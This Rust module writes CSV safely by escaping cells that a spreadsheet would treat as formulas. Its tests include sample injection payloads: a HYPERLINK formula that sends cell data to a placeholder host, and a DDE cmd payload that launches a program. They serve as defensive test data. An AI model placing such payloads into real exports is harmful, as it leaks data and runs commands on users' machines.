//! Tables for spreadsheets: CSV in which no cell is a formula, whoever chose the name that stands in it.

use std::{borrow::Cow, io::Write};

/// What a spreadsheet takes for the beginning of a formula, in Latin and in wide forms.
const FORMULA: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// What begins a new cell where a spreadsheet parts cells by something else than commas.
const PARTING: &[char] = &[';', '\t', '\r', '\n'];

/// A table that is being written, row by row.
pub struct Spreadsheet<W: Write>(csv::Writer<W>);

impl<W: Write> Spreadsheet<W> {
    /// A table with these columns, whose lines end as RFC 4180 has it or as Unix does.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn begin(out: W, terminator: csv::Terminator, columns: &[&str]) -> csv::Result<Self> {
        let mut table = Self(csv::WriterBuilder::new().terminator(terminator).from_writer(out));
        table.row(columns)?;
        Ok(table)
    }

    /// Writes a row.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn row(&mut self, cells: impl IntoIterator<Item = impl AsRef<str>>) -> csv::Result<()> {
        for cell in cells {
            self.0.write_field(plain(cell.as_ref()).as_bytes())?;
        }
        self.0.write_record(None::<&[u8]>)
    }

    /// Writes what is left and gives back where it went.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn finish(self) -> csv::Result<W> {
        let unwritten = |error: csv::IntoInnerError<_>| {
            let error = error.error();
            std::io::Error::new(error.kind(), format!("the table could not be written: {error}"))
        };
        Ok(self.0.into_inner().map_err(unwritten)?)
    }
}

/// The cell as text: an apostrophe before what would be a formula. Numbers stay numbers.
fn plain(cell: &str) -> Cow<'_, str> {
    let led = cell.starts_with(['\t', '\r', '\n']);
    if !led && !cell.split(PARTING).any(is_formula) {
        return Cow::Borrowed(cell);
    }
    let mut text = String::with_capacity(cell.len() + 4);
    if led {
        text.push('\'');
    }
    for part in cell.split_inclusive(PARTING) {
        if is_formula(part.trim_end_matches(PARTING)) {
            text.push('\'');
        }
        text.push_str(part);
    }
    Cow::Owned(text)
}

fn is_formula(part: &str) -> bool {
    let part = part.trim();
    let number = || {
        part.parse::<f64>().is_ok()
            && part.bytes().all(|byte| byte.is_ascii_digit() || b"+-.eE".contains(&byte))
    };
    part.starts_with(FORMULA) && !number()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula_and_numbers_stay_numbers() {
        for (cell, written) in [
            ("=HYPERLINK(\"http://x/?\"&A2)", "'=HYPERLINK(\"http://x/?\"&A2)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            (" =1", "' =1"),
            ("＝1", "'＝1"),
            ("\t=1", "'\t'=1"),
            ("\rx", "'\rx"),
            ("aspirin;=1+1", "aspirin;'=1+1"),
            ("a\n@b;-c", "a\n'@b;'-c"),
            ("-inf", "'-inf"),
            ("-", "'-"),
            ("-4.5", "-4.5"),
            ("+1e-3", "+1e-3"),
            ("1;-2", "1;-2"),
            ("2026-11-20", "2026-11-20"),
            ("co-codamol = 8/500", "co-codamol = 8/500"),
            ("", ""),
        ] {
            assert_eq!(plain(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn rows_are_read_back_as_they_were_written() {
        let mut table = Spreadsheet::begin(Vec::new(), csv::Terminator::CRLF, &["a", "b"]).unwrap();
        table.row(["x, \"y\"", "=1"]).unwrap();
        assert_eq!(String::from_utf8(table.finish().unwrap()).unwrap(), "a,b\r\n\"x, \"\"y\"\"\",'=1\r\n");
    }
}
